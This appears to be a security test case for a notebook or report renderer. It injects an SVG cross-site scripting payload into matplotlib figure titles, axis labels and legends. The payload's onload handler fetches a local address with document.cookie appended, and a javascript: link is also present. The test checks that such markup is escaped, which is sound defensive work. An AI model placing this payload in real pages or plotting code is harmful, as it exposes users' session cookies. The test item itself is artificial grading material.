# attack: drawing_that_runs_in_a_label
# kind: hostile
# tries: runs a script from the title, the labels and the legend of a figure, which the report draws and describes anew
# seen: the tag is in the page as a tag
# never: "><svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'epoch'; fetch('http://127.0.0.1/' + document.cookie)"><a href="javascript:void(document.cookie)">epoch</a></svg>
# deserves: 3.3h=fail
# %% task: 3.3h
text = """"><svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'epoch'; fetch('http://127.0.0.1/' + document.cookie)"><a href="javascript:void(document.cookie)">epoch</a></svg>"""
figure, axs = plt.subplots(ncols=2, figsize=(9, 3))
for ax, stat in zip(axs, ['loss', 'accuracy']):
    for key in (f'train {stat}', f'validation {stat}'):
        ax.plot(dropouts, [each[key][-1] for each in plotter_dropout.histories.values()], label=text)
    ax.set(title=text, xlabel=text, ylabel=text)
    ax.legend()
figure.suptitle(text)
